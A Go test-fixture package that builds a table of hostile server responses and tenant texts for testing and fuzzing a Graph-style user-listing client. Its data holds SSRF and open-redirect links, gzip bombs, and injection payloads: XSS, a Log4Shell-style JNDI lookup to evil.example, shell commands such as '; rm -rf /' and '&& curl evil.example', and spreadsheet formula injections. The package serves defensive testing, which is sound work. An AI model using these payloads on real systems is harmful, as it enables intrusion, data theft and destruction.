// Package hostile holds answers that no service should give, and texts that no tenant should hold, for tests.
//
// It promises one table: what a test of one package is tried on is tried on all, and seeds the fuzz targets. It
// refuses to know what any package makes of them but for one word: whether an answer is to be taken.
package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"iter"
	"strings"
)

// Users is what the answers are to: a listing, of which this is the first page.
const Users = "https://graph.example/v1.0/users"

// A Case is what comes in the place of an answer to a listing of [Users].
type Case struct {
	Family string   // "pagination", "redirects", "JSON", "transport", "meaning" or "text"
	Name   string   // no two cases of a family have the same
	Status int      // 0 is 200
	Header []string // names and values in turn, put over the usual ones; an empty value takes one away
	Body   string   // {n} stands for the number of the request, 1-based
	Raw    string   // in the place of all that: what comes over the connection, which then ends
	Taken  bool     // odd, yet lawful: it is to be carried through as it is
}

// All yields the table.
func All() iter.Seq[Case] {
	return func(yield func(Case) bool) {
		for _, family := range []func() []Case{pagination, redirects, answers, raw, meaning, tenantTexts} {
			for _, c := range family() {
				if !yield(c) {
					return
				}
			}
		}
	}
}

// Links are links of which none may be followed.
func Links() []string {
	return []string{
		"http://graph.example/v1.0/users", "http://graph.example:443/v1.0/users", "https://evil.example/v1.0/users", "https://graph.example.evil.example/v1.0/users",
		"https://graph.example@evil.example/v1.0/users", "https://graph.example:443@evil.example/v1.0/users", "https://evil.example#graph.example/v1.0/users", "https://evil.example?graph.example/v1.0/users",
		"https://evil.example/https://graph.example/v1.0/users", "https://user@graph.example/v1.0/users", "https://user:pass@graph.example/v1.0/users", "https://@graph.example/v1.0/users", "https://:@graph.example/v1.0/users",
		"https://graph.example:8443/v1.0/users", "https://graph.example:80/v1.0/users", "https://graph.example:/v1.0/users", "https://graph.example:0443/v1.0/users", "https://graph.example:99999/v1.0/users", "https://graph.example:4a3/v1.0/users",
		"https://xn--grph-5na.example/v1.0/users", "https://gr\u0430ph.example/v1.0/users", "https://graph\u3002example/v1.0/users", "https://graph.example\u2044evil/v1.0/users", "https://graph.example./v1.0/users", "https://.graph.example/v1.0/users",
		"https://[::1]/v1.0/users", "https://[::ffff:127.0.0.1]/v1.0/users", "https://127.0.0.1/v1.0/users", "https://2130706433/v1.0/users", "https://localhost/v1.0/users", "https://169.254.169.254/v1.0/users", "https://[::1%25eth0]/v1.0/users",
		"//evil.example/v1.0/users", "//graph.example/v1.0/users", "/v1.0/users?page=2", "users?page=2", "?page=2", "v1.0/users", "", " ", "#", "https:", "https://", "https:///v1.0/users", "https:/graph.example/v1.0/users", "https:graph.example/v1.0/users",
		"https:\\\\graph.example\\v1.0\\users", "https://graph.example\\@evil.example/v1.0/users", "https://graph.example/\\evil.example/v1.0/users", "https://evil.example\\.graph.example/v1.0/users",
		"file:///etc/passwd", "javascript:alert(1)", "data:application/json,{}", "ftp://graph.example/v1.0/users", "gopher://graph.example/v1.0/users", "wss://graph.example/v1.0/users", "httpsx://graph.example/v1.0/users", "blob:https://graph.example/v1.0/users",
		"https://graph.example/v1.0/users\r\nX-Evil: 1", "https://graph.example/v1.0/users\n", "\thttps://graph.example/v1.0/users", " https://graph.example/v1.0/users", "https://graph.example/v1.0/users x", "https://graph.example\x00.evil.example/v1.0/users", "https://graph.example/v1.0/users\x7f",
		"https://graph.example/beta/users", "https://graph.example/v2.0/users", "https://graph.example/users", "https://graph.example/", "https://graph.example", "https://graph.example/v1.0", "https://graph.example/v1.0/", "https://graph.example//v1.0/users", "https://graph.example/v1.0//users",
		"https://graph.example/v1.0/../beta/users", "https://graph.example/v1.0/%2e%2e/beta/users", "https://graph.example/v1.0/a%2f..%2f..%2fbeta/users", "https://graph.example/v1.0/./users", "https://graph.example/V1.0/users", "https://graph.example/v1%2e0/users", "https://graph.example/v1.0/%zz",
		"https://graph.example/v1.0/users#fragment", "https://graph.example/v1.0/us{er}s", "https://graph.example/v1.0/\u00fcsers",
		"https://evil.example%2f@graph.example/v1.0/users", "https://graph.example%2eevil.example/v1.0/users", "https://graph.example%00/v1.0/users", "https://graph.example,evil.example/v1.0/users", "https://graph.example;evil.example/v1.0/users", "https://graph.example evil.example/v1.0/users",
		"https://graph.example/v1.0/users?" + strings.Repeat("x", 100_000),
	}
}

func quote(s string) string {
	text, err := json.Marshal(s) // of a string, so without an error
	if err != nil {
		panic(err)
	}
	return string(text)
}

func pagination() (all []Case) {
	for i, link := range Links() {
		all = append(all, Case{Family: "pagination", Name: fmt.Sprintf("next link %d: %.60q", i, link), Body: `{"value":[{"id":"1"}],"@odata.nextLink":` + quote(link) + `}`})
		if i%4 == 0 {
			all = append(all, Case{Family: "pagination", Name: fmt.Sprintf("delta link %d: %.60q", i, link), Body: `{"value":[{"id":"1"}],"@odata.deltaLink":` + quote(link) + `}`})
		}
	}
	for name, body := range map[string]string{
		"self":                   `{"value":[],"@odata.nextLink":"` + Users + `"}`,
		"self with items":        `{"value":[{"id":"1"}],"@odata.nextLink":"` + Users + `"}`,
		"same link":              `{"value":[],"@odata.nextLink":"` + Users + `?page=2"}`,
		"new link same page":     `{"value":[{"id":"1"},{"id":"2"}],"@odata.nextLink":"` + Users + `?page={n}"}`,
		"new link same item":     `{"value":[{"id":"1"}],"@odata.nextLink":"` + Users + `?page={n}"}`,
		"count too small":        `{"value":[{"id":"1"},{"id":"2"}],"@odata.count":1}`,
		"count too large":        `{"value":[{"id":"1"},{"id":"2"}],"@odata.count":3}`,
		"count of an empty list": `{"value":[],"@odata.count":100000}`,
	} {
		all = append(all, Case{Family: "pagination", Name: name, Body: body})
	}
	return all
}

func redirects() (all []Case) {
	for _, status := range []int{300, 301, 302, 303, 305, 307, 308, 399} {
		for _, to := range []string{"http://graph.example/v1.0/users", "https://evil.graph.example/v1.0/users", "https://graph.example:8443/v1.0/users", Users, Users + "?hop={n}", "//evil.example/", "/beta/users", "javascript:alert(1)", ""} {
			all = append(all, Case{Family: "redirects", Name: fmt.Sprintf("%d to %q", status, to), Status: status, Header: []string{"Location", to}, Body: `{"value":[]}`})
		}
	}
	return all
}

// Squeeze returns s as gzip.
func Squeeze(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.WriteString(z, s); err != nil {
		panic(err)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

const good = `{"@odata.context":"c","value":[{"id":"1","displayName":"a"}]}`

func answers() []Case {
	rows := []Case{
		{Name: "empty", Body: ""}, {Name: "space", Body: " \r\n\t "}, {Name: "null", Body: "null"}, {Name: "true", Body: "true"}, {Name: "number", Body: "1"}, {Name: "string", Body: `"value"`}, {Name: "array", Body: `[{"id":"1"}]`}, {Name: "empty object", Body: "{}"},
		{Name: "value null", Body: `{"value":null}`}, {Name: "value object", Body: `{"value":{"id":"1"}}`}, {Name: "value string", Body: `{"value":"x"}`}, {Name: "value number", Body: `{"value":0}`}, {Name: "value true", Body: `{"value":true}`},
		{Name: "Value", Body: `{"Value":[]}`}, {Name: "VALUE", Body: `{"VALUE":[]}`}, {Name: "vAlue", Body: `{"vAlue":[{"id":"1"}]}`}, {Name: "values", Body: `{"values":[]}`}, {Name: "value nested", Body: `{"d":{"value":[]}}`}, {Name: "results", Body: `{"d":{"results":[]}}`},
		{Name: "item null", Body: `{"value":[null]}`}, {Name: "item number", Body: `{"value":[1]}`}, {Name: "item string", Body: `{"value":["a"]}`}, {Name: "item array", Body: `{"value":[[]]}`}, {Name: "item after good one", Body: `{"value":[{"id":"1"},2]}`},
		{Name: "duplicate value", Body: `{"value":[{"id":"1"}],"value":[]}`}, {Name: "value twice in case", Body: `{"value":[{"id":"1"}],"Value":[]}`}, {Name: "escaped duplicate", Body: `{"value":[],"val\u0075e":[]}`}, {Name: "Kelvin", Body: `{"value":[{"k":1,"\u212a":2}]}`},
		{Name: "duplicate next", Body: `{"value":[],"@odata.nextLink":"` + Users + `?a","@odata.nextLink":"` + Users + `?b"}`}, {Name: "next in case", Body: `{"value":[],"@odata.nextlink":"` + Users + `?a"}`}, {Name: "next upper", Body: `{"value":[],"@ODATA.NEXTLINK":"` + Users + `?a"}`}, {Name: "delta in case", Body: `{"value":[],"@odata.deltalink":"` + Users + `?a"}`}, {Name: "count in case", Body: `{"value":[],"@odata.Count":1}`},
		{Name: "next number", Body: `{"value":[],"@odata.nextLink":2}`}, {Name: "next null", Body: `{"value":[],"@odata.nextLink":null}`}, {Name: "next false", Body: `{"value":[],"@odata.nextLink":false}`}, {Name: "next array", Body: `{"value":[],"@odata.nextLink":["` + Users + `"]}`}, {Name: "next object", Body: `{"value":[],"@odata.nextLink":{}}`}, {Name: "next empty", Body: `{"value":[],"@odata.nextLink":""}`},
		{Name: "delta null", Body: `{"value":[],"@odata.deltaLink":null}`}, {Name: "delta empty", Body: `{"value":[],"@odata.deltaLink":""}`}, {Name: "next and delta", Body: `{"value":[],"@odata.nextLink":"` + Users + `?a","@odata.deltaLink":"` + Users + `?b"}`},
		{Name: "count text", Body: `{"value":[],"@odata.count":"many"}`}, {Name: "count negative", Body: `{"value":[],"@odata.count":-1}`}, {Name: "count fraction", Body: `{"value":[],"@odata.count":1.5}`}, {Name: "count huge", Body: `{"value":[],"@odata.count":99999999999999999999}`}, {Name: "count null", Body: `{"value":[],"@odata.count":null}`},
		{Name: "error object", Body: `{"error":{"code":"x","message":"y"}}`}, {Name: "error beside value", Body: `{"value":[{"id":"1"}],"error":{"code":"x"}}`}, {Name: "Error", Body: `{"value":[],"Error":{}}`}, {Name: "legacy error", Body: `{"odata.error":{"code":"x"}}`}, {Name: "legacy error beside value", Body: `{"value":[],"odata.error":{}}`}, {Name: "error null", Body: `{"value":[],"error":null}`},
		{Name: "duplicate in item", Body: `{"value":[{"id":"1","id":"2"}]}`}, {Name: "case variant in item", Body: `{"value":[{"id":"1","ID":"2"}]}`}, {Name: "case variant deep", Body: `{"value":[{"a":{"b":[{"x":1,"X":2}]}}]}`}, {Name: "duplicate deep", Body: `{"value":[{"a":{"b":[{"x":1,"x":2}]}}]}`}, {Name: "duplicate empty names", Body: `{"value":[{"":1,"":2}]}`},
		{Name: "trailing text", Body: good + "x"}, {Name: "two documents", Body: good + good}, {Name: "trailing comma", Body: good + ","}, {Name: "trailing NUL", Body: good + "\x00"}, {Name: "trailing html", Body: good + "<script>"}, {Name: "trailing brace", Body: good + "}"}, {Name: "leading text", Body: "x" + good}, {Name: "guard", Body: ")]}'\n" + good}, {Name: "jsonp", Body: "cb(" + good + ")"},
		{Name: "BOM", Body: "\xEF\xBB\xBF" + good}, {Name: "UTF-16 LE", Body: "\xFF\xFE{\x00}\x00"}, {Name: "UTF-16 BE", Body: "\xFE\xFF\x00{\x00}"}, {Name: "UTF-16 bare", Body: "{\x00}\x00"}, {Name: "UTF-32", Body: "{\x00\x00\x00}\x00\x00\x00"},
		{Name: "invalid UTF-8", Body: "{\"value\":[{\"id\":\"\xff\"}]}"}, {Name: "invalid UTF-8 name", Body: "{\"value\":[{\"\xc3\x28\":1}]}"}, {Name: "overlong", Body: "{\"value\":[{\"id\":\"\xc0\xaf\"}]}"}, {Name: "raw surrogate", Body: "{\"value\":[{\"id\":\"\xed\xa0\x80\"}]}"}, {Name: "truncated rune", Body: "{\"value\":[{\"id\":\"\xe2\x82\"}]}"},
		{Name: "lone surrogate", Body: `{"value":[{"id":"\ud800"}]}`}, {Name: "low surrogate", Body: `{"value":[{"id":"\udc00"}]}`}, {Name: "surrogate and letter", Body: `{"value":[{"id":"\ud800a"}]}`}, {Name: "two high surrogates", Body: `{"value":[{"id":"\ud800\ud800"}]}`},
		{Name: "raw control", Body: "{\"value\":[{\"id\":\"a\nb\"}]}"}, {Name: "raw NUL", Body: "{\"value\":[{\"id\":\"a\x00b\"}]}"}, {Name: "bad escape", Body: `{"value":[{"id":"\x41"}]}`}, {Name: "short escape", Body: `{"value":[{"id":"\u12"}]}`},
		{Name: "NaN", Body: `{"value":[{"n":NaN}]}`}, {Name: "Infinity", Body: `{"value":[{"n":Infinity}]}`}, {Name: "minus Infinity", Body: `{"value":[{"n":-Infinity}]}`}, {Name: "hex", Body: `{"value":[{"n":0x10}]}`}, {Name: "octal", Body: `{"value":[{"n":010}]}`}, {Name: "plus", Body: `{"value":[{"n":+1}]}`}, {Name: "bare point", Body: `{"value":[{"n":.5}]}`}, {Name: "trailing point", Body: `{"value":[{"n":1.}]}`}, {Name: "bare minus", Body: `{"value":[{"n":-}]}`}, {Name: "bare exponent", Body: `{"value":[{"n":1e}]}`},
		{Name: "comment", Body: `{"value":[]/* x */}`}, {Name: "line comment", Body: "{\"value\":[]} // x"}, {Name: "single quotes", Body: `{'value':[]}`}, {Name: "bare name", Body: `{value:[]}`}, {Name: "comma in object", Body: `{"value":[],}`}, {Name: "comma in array", Body: `{"value":[{"id":"1"},]}`}, {Name: "no comma", Body: `{"value":[{"id":"1"}{"id":"2"}]}`}, {Name: "no colon", Body: `{"value" []}`}, {Name: "colon for comma", Body: `{"value":[],"a":1:2}`}, {Name: "undefined", Body: `{"value":undefined}`}, {Name: "True", Body: `{"value":[{"a":True}]}`}, {Name: "wrong bracket", Body: `{"value":[}]`}, {Name: "number name", Body: `{"value":[],1:2}`},
		{Name: "deep arrays", Body: `{"value":[{"a":` + strings.Repeat("[", 10_001) + strings.Repeat("]", 10_001) + `}]}`}, {Name: "deep objects", Body: `{"value":[{"a":` + strings.Repeat(`{"a":`, 100) + "1" + strings.Repeat("}", 100) + `}]}`}, {Name: "one too deep", Body: `{"value":[{"a":` + strings.Repeat("[", 62) + strings.Repeat("]", 62) + `}]}`}, {Name: "deep unclosed", Body: `{"value":` + strings.Repeat("[", 1_000_000)},
		{Name: "long array", Body: `{"value":[{"a":[` + strings.Repeat("0,", 100_000) + `0]}]}`}, {Name: "many items", Body: `{"value":[` + strings.Repeat("{},", 100_000) + `{}]}`}, {Name: "long string", Body: `{"value":[{"a":"` + strings.Repeat("a", 1<<20+1) + `"}]}`}, {Name: "long name", Body: `{"value":[{"` + strings.Repeat("a", 1<<20+1) + `":1}]}`}, {Name: "large object", Body: `{"value":[{"a":[` + strings.Repeat(`"`+strings.Repeat("a", 1<<19)+`",`, 8) + `0]}]}`},
		{Name: "html", Body: "<!DOCTYPE html><title>log in</title>", Header: []string{"Content-Type", "text/html"}}, {Name: "html as JSON", Body: "<!DOCTYPE html>"}, {Name: "JSON as html", Body: good, Header: []string{"Content-Type", "text/html; charset=utf-8"}}, {Name: "JSON as text", Body: good, Header: []string{"Content-Type", "text/plain"}}, {Name: "no type", Body: good, Header: []string{"Content-Type", ""}}, {Name: "malformed type", Body: good, Header: []string{"Content-Type", "application/json;;charset"}}, {Name: "xml", Body: "<feed/>", Header: []string{"Content-Type", "application/atom+xml"}}, {Name: "json look-alike", Body: good, Header: []string{"Content-Type", "application/jsonp"}}, {Name: "text/json", Body: good, Header: []string{"Content-Type", "text/json"}},
		{Name: "latin1", Body: good, Header: []string{"Content-Type", "application/json; charset=iso-8859-1"}}, {Name: "utf-16", Body: good, Header: []string{"Content-Type", "application/json; charset=utf-16"}}, {Name: "utf-7", Body: good, Header: []string{"Content-Type", "application/json; charset=utf-7"}},
		{Name: "not gzip", Body: good, Header: []string{"Content-Encoding", "gzip"}}, {Name: "gzip cut", Body: Squeeze(good)[:30], Header: []string{"Content-Encoding", "gzip"}}, {Name: "gzip header cut", Body: Squeeze(good)[:5], Header: []string{"Content-Encoding", "gzip"}}, {Name: "gzip without sum", Body: Squeeze(good)[:len(Squeeze(good))-8], Header: []string{"Content-Encoding", "gzip"}}, {Name: "gzip sum wrong", Body: Squeeze(good)[:len(Squeeze(good))-8] + "\x00\x00\x00\x00\x00\x00\x00\x00", Header: []string{"Content-Encoding", "gzip"}}, {Name: "gzip and text", Body: Squeeze(good) + "x", Header: []string{"Content-Encoding", "gzip"}}, {Name: "double gzip", Body: Squeeze(Squeeze(good)), Header: []string{"Content-Encoding", "gzip"}}, {Name: "double gzip told", Body: Squeeze(Squeeze(good)), Header: []string{"Content-Encoding", "gzip, gzip"}}, {Name: "two members", Body: Squeeze(good) + Squeeze(good), Header: []string{"Content-Encoding", "gzip"}},
		{Name: "deflate", Body: good, Header: []string{"Content-Encoding", "deflate"}}, {Name: "br", Body: good, Header: []string{"Content-Encoding", "br"}}, {Name: "unknown encoding", Body: good, Header: []string{"Content-Encoding", "x"}}, {Name: "gzip untold", Body: Squeeze(good)}, {Name: "bomb", Body: Squeeze(strings.Repeat("0", 20<<20)), Header: []string{"Content-Encoding", "gzip"}}, {Name: "lawful bomb", Body: Squeeze(good + strings.Repeat(" ", 20<<20)), Header: []string{"Content-Encoding", "gzip"}}, {Name: "bomb of spaces", Body: Squeeze(good + strings.Repeat(" ", 70<<20)), Header: []string{"Content-Encoding", "gzip"}}, {Name: "too long", Body: good + strings.Repeat(" ", 64<<20)},
		{Name: "no content", Status: 204}, {Name: "no content with body", Body: good, Status: 204}, {Name: "accepted", Status: 202}, {Name: "not modified", Status: 304}, {Name: "redirect with body", Body: good, Status: 302, Header: []string{"Location", Users + "?page=2"}}, {Name: "multiple choices", Body: good, Status: 300},
	}
	for i, c := range rows {
		rows[i].Family = "JSON"
		if c.Header != nil || c.Status != 0 || strings.HasPrefix(c.Name, "gzip") || c.Name == "too long" {
			rows[i].Family = "transport"
		}
	}
	return rows
}

// raw are answers that are wrong below the body.
func raw() (all []Case) {
	const ok, kind = "HTTP/1.1 200 OK\r\n", "Content-Type: application/json\r\n"
	for name, text := range map[string]string{
		"two empty lines":           "\r\n\r\n",
		"not HTTP":                  "SSH-2.0-OpenSSH_9.9\r\n",
		"another protocol":          "\x16\x03\x01\x00\xa5\x01\x00\x00",
		"HTTP/2 in clear":           "\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64",
		"status without number":     "HTTP/1.1 OK\r\n\r\n",
		"status of four digits":     "HTTP/1.1 2000 OK\r\n\r\n",
		"negative status":           "HTTP/1.1 -200 OK\r\n\r\n",
		"HTTP/9.9":                  "HTTP/9.9 200 OK\r\n\r\n" + good,
		"head cut":                  ok + "Content-Ty",
		"header without colon":      ok + "nonsense\r\n\r\n" + good,
		"header with a NUL":         ok + "X-A: a\x00b\r\n\r\n" + good,
		"longer than sent":          ok + kind + "Content-Length: 1000\r\n\r\n" + good,
		"shorter than sent":         ok + kind + "Content-Length: 20\r\n\r\n" + good,
		"lengths that differ":       ok + kind + "Content-Length: 61\r\nContent-Length: 62\r\n\r\n" + good,
		"length negative":           ok + kind + "Content-Length: -1\r\n\r\n" + good,
		"length in words":           ok + kind + "Content-Length: many\r\n\r\n" + good,
		"length absurd":             ok + kind + "Content-Length: 99999999999999999999\r\n\r\n" + good,
		"chunk without size":        ok + kind + "Transfer-Encoding: chunked\r\n\r\nzz\r\n" + good,
		"chunk cut":                 ok + kind + "Transfer-Encoding: chunked\r\n\r\n3d\r\n" + good[:20],
		"chunks without end":        ok + kind + "Transfer-Encoding: chunked\r\n\r\n" + fmt.Sprintf("%x\r\n", len(good)) + good + "\r\n",
		"chunk longer than told":    ok + kind + "Transfer-Encoding: chunked\r\n\r\n5\r\n" + good + "\r\n0\r\n\r\n",
		"chunk size absurd":         ok + kind + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n" + good,
		"unknown transfer encoding": ok + kind + "Transfer-Encoding: gzip\r\n\r\n" + good,
		"a header without end":      ok + "X-A: " + strings.Repeat("a", 2<<20),
		"headers without end":       ok + strings.Repeat("X-A: aaaaaaaaaaaaaaaa\r\n", 100_000),
		"storm of 100":              strings.Repeat("HTTP/1.1 100 Continue\r\n\r\n", 10_000),
		"storm of 103":              strings.Repeat("HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n", 10_000),
		"switching protocols":       "HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n",
	} {
		all = append(all, Case{Family: "transport", Name: name, Raw: text})
	}
	return all
}

// meaning are pages that are right in form.
func meaning() []Case {
	rows := []Case{
		{Name: "nobody is there", Body: `{"value":[]}`},
		{Name: "almost nobody is there", Body: `{"value":[{"id":"1","displayName":"the last"}]}`},
		{Name: "no id", Body: `{"value":[{"displayName":"a"}]}`},
		{Name: "empty id", Body: `{"value":[{"id":"","displayName":"a"}]}`},
		{Name: "id null", Body: `{"value":[{"id":null,"displayName":"a"}]}`},
		{Name: "id number", Body: `{"value":[{"id":1,"displayName":"a"}]}`},
		{Name: "id true", Body: `{"value":[{"id":true,"displayName":"a"}]}`},
		{Name: "id object", Body: `{"value":[{"id":{"a":"b"},"displayName":"a"}]}`},
		{Name: "id array", Body: `{"value":[{"id":["a"],"displayName":"a"}]}`},
		{Name: "count in the clouds", Body: `{"value":[{"id":"1","displayName":"a"}],"@odata.count":7}`},
	}
	for name, item := range map[string]string{
		"id not a GUID":        `{"id":"x","displayName":"a"}`,
		"id with a slash":      `{"id":"a/b","displayName":"a"}`,
		"id of dots":           `{"id":"..","displayName":"a"}`,
		"id that climbs":       `{"id":"../../x","displayName":"a"}`,
		"id with a NUL":        `{"id":"a\u0000b","displayName":"a"}`,
		"id with a query":      `{"id":"a?b#c%2f","displayName":"a"}`,
		"id in braces":         `{"id":"{parent}","displayName":"a"}`,
		"id upside down":       `{"id":"\u202ea","displayName":"a"}`,
		"long id":              `{"id":"` + strings.Repeat("i", 10_000) + `","displayName":"a"}`,
		"created in future":    `{"id":"f","displayName":"a","createdDateTime":"2999-01-01T00:00:00Z"}`,
		"created never":        `{"id":"n","displayName":"a","createdDateTime":"0001-01-01T00:00:00Z"}`,
		"date that is none":    `{"id":"d","displayName":"a","createdDateTime":"soon"}`,
		"unknown type":         `{"@odata.type":"#microsoft.graph.nonsense","id":"u","displayName":"a"}`,
		"another's type":       `{"@odata.type":"#microsoft.graph.group","id":"g","displayName":"a"}`,
		"properties of nobody": `{"id":"p","displayName":"a","__proto__":{"a":1},"constructor":2,"\u0000":3}`,
		"numbers of any size":  `{"id":"s","displayName":"a","x":9007199254740993,"y":1e400,"z":-0}`,
		"wrong kinds":          `{"id":"w","displayName":{"a":1},"accountEnabled":"yes","businessPhones":"none","userPrincipalName":7}`,
		"wrong elements":       `{"id":"e","displayName":"a","businessPhones":[1,null,{}],"otherMails":{}}`,
		"all null":             `{"id":"0","displayName":null,"userPrincipalName":null,"mail":null}`,
	} {
		rows = append(rows, Case{Name: name, Body: `{"value":[` + item + `]}`, Taken: true})
	}
	rows = append(rows, Case{Name: "twice and not the same", Body: `{"value":[{"id":"t","displayName":"a"},{"id":"t","displayName":"b"}]}`, Taken: true})
	for i := range rows {
		rows[i].Family = "meaning"
	}
	return rows
}

// texts are payloads for people's and programs' eyes. They are lawful content of a tenant, and stay as they are.
func texts() (all []string) {
	all = append(all,
		// of web pages
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script href="data:,alert(1)"/></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`,
		`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<base href="https://evil.example/">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<form action=https://evil.example><input name=t>`, `<link rel=stylesheet href=//evil.example>`, `<style>@import'//evil.example'</style>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
		`<object data="data:text/html,<script>alert(1)</script>">`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`, "<scr\x00ipt>alert(1)</scr\x00ipt>", `javascript:alert(1)`, `data:text/html;base64,PHNjcmlwdD4=`, `" onmouseover="alert(1)`, `' onfocus='alert(1)' autofocus='`, "`onclick=alert(1)`",
		// of templates and interpreters
		`{{7*7}}`, `{{constructor.constructor('alert(1)')()}}`, `{{.}}`, `{{template "x"}}`, `{%debug%}`, `{# x #}`, `${7*7}`, `${jndi:ldap://evil.example/a}`, `${${lower:j}ndi:dns://evil.example}`, `#{7*7}`, `<%= 7*7 %>`, `<?php phpinfo(); ?>`, `[[${7*7}]]`, `@(7*7)`, `$(id)`, "`id`", `; rm -rf /`, `| cat /etc/passwd`, `&& curl evil.example`, `%x%s%n%p`, `%!s(MISSING)`, `${IFS}`, `$HOME`, `%USERPROFILE%`, `~root`, `-rf`, `--help`, `@file`,
		// of spreadsheets
		`=1+1`, `=cmd|'/c calc'!A0`, `=HYPERLINK("https://evil.example","x")`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", `;=1+1`, `",=1+1,"`, `=IMPORTXML("https://evil.example","//a")`, `＝1+1`,
		// of terminals
		"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1b(0", "\x1bc", "\u009b31m", "\u009d0;x\u009c", "a\bb", "a\rb", "a\nb", "a\r\nERROR forged line", "a\x0bb", "a\x0cb", "\a", "\x7f", "\x00", "a\x00b", "\x1a", "\x04", "\x13",
		// of eyes
		"\u202eexe.gpj", "\u202dabc\u202c", "\u2066a\u2069", "\u2067a\u2069", "\u200fabc", "\u061cabc", "a\u200bb", "a\u200cb", "a\u200db", "\ufeffa", "a\u2060b", "a\u00adb", "a\u2028b", "a\u2029b", "a\u0085b", "a\u00a0b", "\u3164", "\u115f", "\u2800", "p\u0430ypal", "\u0391dmin", "\U0001d400dmin", "a\u0301\u0302\u0303\u0304\u0305\u0306", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334", "\u212a", "\u0130", "\u1e9e", "\ufb01", "\u0e33\u0e33", "\uffff", "\ufffe", "\ufffd", "\U0010ffff", "\U000e0041\U000e0042",
		"\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "\U0001f1e9\U0001f1ea", "\u2764\ufe0f", "1\ufe0f\u20e3",
		// of names of files
		`../../etc/passwd`, `..\..\windows\system32`, `/etc/passwd`, `C:\boot.ini`, `\\evil.example\share`, `CON`, `PRN`, `AUX.txt`, `NUL`, `COM1`, `LPT9.json`, `name.`, `name `, ` name`, `.`, `..`, `a/b`, `a:b`, `a*b?`, `a|b`, `file://evil.example/x`, `%2e%2e%2f`, `..%c0%af`, `.git/config`, `~`, `name::$DATA`,
		// of queries and messages
		`O'Brien`, `' or '1'='1`, `x' or displayName ne 'y`, `'; drop table users; --`, `*)(uid=*))(|(uid=*`, `(cn=*)`, `a\2ab`, `"; $where: 1`, `$filter=1 eq 1`, `x&$top=1`, `x#y`, `x?y=z`, `a%00b`, `a+b`, `a%20b`,
		`[x](javascript:alert(1))`, `![x](https://evil.example/x.png)`, "# heading\n- list", "```\ncode\n```", `<at>everyone</at>`, `<!channel>`, `@everyone`, `{"type":"AdaptiveCard","actions":[{"type":"Action.OpenUrl","url":"https://evil.example"}]}`, `**bold**`, `|a|b|`, `[ ](//evil.example)`,
		// of readers of JSON and numbers
		`null`, `true`, `undefined`, `NaN`, `0`, `1e400`, `9007199254740993`, `__proto__`, `constructor`, `{"$ref":"#"}`, `"`, `\`, `\u0000`, `'`, "`", ` `, "\t",
		// of size
		strings.Repeat("n", 64<<10), strings.Repeat("\u202e", 1000), strings.Repeat("e\u0301", 5000), strings.Repeat("\U0001f600", 2000),
	)
	return all
}

func tenantTexts() (all []Case) {
	for i, text := range texts() {
		all = append(all, Case{Family: "text", Name: fmt.Sprintf("text %d: %.40q", i, text), Body: fmt.Sprintf(`{"value":[{"id":"text%d","displayName":%s}]}`, i, quote(text)), Taken: true})
	}
	return all
}
